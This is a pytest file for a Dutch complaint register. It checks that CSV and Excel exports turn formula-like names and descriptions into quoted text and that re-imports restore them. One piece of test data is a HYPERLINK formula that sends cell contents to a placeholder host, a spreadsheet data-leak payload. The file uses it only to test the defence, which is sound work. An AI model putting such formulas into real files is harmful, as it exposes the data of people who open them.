"""An exported register is safe to open in Excel: texts that look like formulas stay text,
in .xlsx and in .csv, and reading the export back in gives the same names."""

from __future__ import annotations

import codecs
import csv
import io
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app import cli
from app.db import Database
from app.models import Complainant, Complaint
from app.services.complainants import ComplainantData
from app.services.errors import ServiceError
from app.services.identity import set_up_first_use
from app.services.intake import IntakeData, IntakeService
from app.services.permissions import CurrentUser
from app.services.register_io import (
    EXPORT_COLUMNS,
    RegisterExportService,
    RegisterImportService,
    read_sheet,
)
from app.services.sheet_writing import escape_formula_text, unescape_formula_text

HYPERLINK = '=HYPERLINK("http://example.invalid/?"&E3&E4,"Klik hier")'
FORMULA_NAMES = (
    HYPERLINK,
    "+31 Proef Alfa",
    "-Proef Beta",
    "@SUM(Proef Gamma)",
)
PLAIN_NAME = "Proef Delta"
FORMULA_DESCRIPTION = "=1+1 is wat ik had verwacht, maar ik kreeg nooit antwoord."


def _register(db: Database, admin: CurrentUser) -> None:
    intake = IntakeService(db, admin)
    for n, name in enumerate((*FORMULA_NAMES, PLAIN_NAME)):
        intake.register(
            IntakeData(
                description=FORMULA_DESCRIPTION if n == 0 else "Niet teruggebeld.",
                received_on=date(2026, 3, 2),
                complainant=ComplainantData(name=name, email=f"proef{n}@example.com"),
            ),
            today=date(2026, 3, 2),
        )


def _names_in(sheet_rows: list[list[object]]) -> list[object]:
    column = list(EXPORT_COLUMNS).index("Klager")
    return [row[column] for row in sheet_rows[1:]]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+31 6",
        "-x",
        "@x",
        "\t=x",
        "\r=x",
        "'=x",
        "''+x",
        "'plain",
        "plain",
        "",
    ],
)
def test_unescaping_an_escaped_text_gives_back_the_text(text: str) -> None:
    assert unescape_formula_text(escape_formula_text(text)) == text


def test_only_texts_that_start_like_a_formula_get_a_quote() -> None:
    assert escape_formula_text("=1+1") == "'=1+1"
    assert escape_formula_text("@SUM(A1)") == "'@SUM(A1)"
    assert escape_formula_text("\tx") == "'\tx"
    assert escape_formula_text("Proef = Delta") == "Proef = Delta"
    assert escape_formula_text("'t Hoekje") == "'t Hoekje"
    # A quote typed before an apostrophe-name in Excel stays the complainant's own.
    assert unescape_formula_text("'t Hoekje") == "'t Hoekje"


def test_an_exported_workbook_holds_formula_like_names_as_quoted_text_and_no_formula(
    db: Database, admin: CurrentUser, tmp_path: Path
) -> None:
    _register(db, admin)
    path = tmp_path / "register.xlsx"
    assert RegisterExportService(db, admin).export(path) == len(FORMULA_NAMES) + 1

    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert re.search(r"<f[\s>/]", sheet_xml) is None

    rows = [list(r) for r in load_workbook(path).active.iter_rows(values_only=True)]
    names = _names_in(rows)
    assert sorted(names) == sorted(["'" + n for n in FORMULA_NAMES] + [PLAIN_NAME])
    description = rows[1][list(EXPORT_COLUMNS).index("Omschrijving")]
    assert description == "'" + FORMULA_DESCRIPTION


def test_an_exported_csv_is_semicolon_separated_utf8_with_bom_and_crlf_and_quotes_formulas(
    db: Database, admin: CurrentUser, tmp_path: Path
) -> None:
    _register(db, admin)
    path = tmp_path / "register.csv"
    RegisterExportService(db, admin).export(path)

    raw = path.read_bytes()
    assert raw.startswith(codecs.BOM_UTF8)
    assert not raw.startswith(b"PK")  # not a zipped workbook under a .csv name
    assert raw.count(b"\r\n") >= len(FORMULA_NAMES) + 2
    assert b"\n" not in raw.replace(b"\r\n", b"")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0] == list(EXPORT_COLUMNS)
    assert sorted(_names_in(rows)) == sorted(["'" + n for n in FORMULA_NAMES] + [PLAIN_NAME])
    # The name with its comma and quotes survives as one field; dates read as Dutch dates.
    assert rows[1][list(EXPORT_COLUMNS).index("Datum ontvangst")] == "02-03-2026"
    assert all(len(row) == len(EXPORT_COLUMNS) for row in rows)


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_reading_an_export_back_in_gives_the_names_without_the_quote(
    db: Database, admin: CurrentUser, tmp_path: Path, second_db: Database, suffix: str
) -> None:
    _register(db, admin)
    path = tmp_path / f"register{suffix}"
    RegisterExportService(db, admin).export(path)

    other_admin = set_up_first_use(
        second_db, organisation_name="Leeg", user_name="Proef Leeg", login="leeg"
    )
    importer = RegisterImportService(second_db, other_admin)
    preview = importer.preview(read_sheet(path))
    assert preview.problems == []
    assert importer.import_rows(preview, create_people=True).created == len(FORMULA_NAMES) + 1
    with second_db.session_scope() as session:
        names = set(session.scalars(select(Complainant.name)))
        descriptions = set(session.scalars(select(Complaint.description)))
    assert names == {*FORMULA_NAMES, PLAIN_NAME}
    assert FORMULA_DESCRIPTION in descriptions

    # Round and round: a second export is the same as the first, quotes did not pile up.
    again = tmp_path / f"again{suffix}"
    RegisterExportService(second_db, other_admin).export(again)
    first, second = read_sheet(path), read_sheet(again)
    klager = EXPORT_COLUMNS.index("Klager")
    first_names = sorted(str(c[klager]) for _n, c in first.rows())
    second_names = sorted(str(c[klager]) for _n, c in second.rows())
    assert first_names == second_names == sorted({*FORMULA_NAMES, PLAIN_NAME})


def test_an_export_to_another_kind_of_file_is_refused_in_dutch_and_writes_nothing(
    db: Database, admin: CurrentUser, tmp_path: Path
) -> None:
    folder = tmp_path / "export"
    folder.mkdir()
    with pytest.raises(ServiceError, match=r"\.xlsx .*\.csv"):
        RegisterExportService(db, admin).export(folder / "register.txt")
    assert list(folder.iterdir()) == []


def test_the_export_command_writes_real_csv_for_a_csv_name(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from app.migrate import upgrade_database

    url = f"sqlite:///{tmp_path / 'klachten.db'}"
    db = Database(url)
    upgrade_database(db, backup_folder=tmp_path / "b")
    admin = set_up_first_use(db, organisation_name="Proef", user_name="Proef Psi", login="psi")
    _register(db, admin)
    db.dispose()
    monkeypatch.setattr("app.services.identity.os_login", lambda: "psi")

    out = tmp_path / "x.csv"
    assert cli.main(["--db", url, "export", str(out)]) == 0
    assert "5 klachten geëxporteerd" in capsys.readouterr().out
    text = out.read_bytes().decode("utf-8-sig")
    assert text.startswith("Nummer;Soort;")
    assert "'" + HYPERLINK.replace('"', '""') in text

    assert cli.main(["--db", url, "export", str(tmp_path / "x.ods")]) == 1
    assert ".xlsx" in capsys.readouterr().err
    assert not (tmp_path / "x.ods").exists()
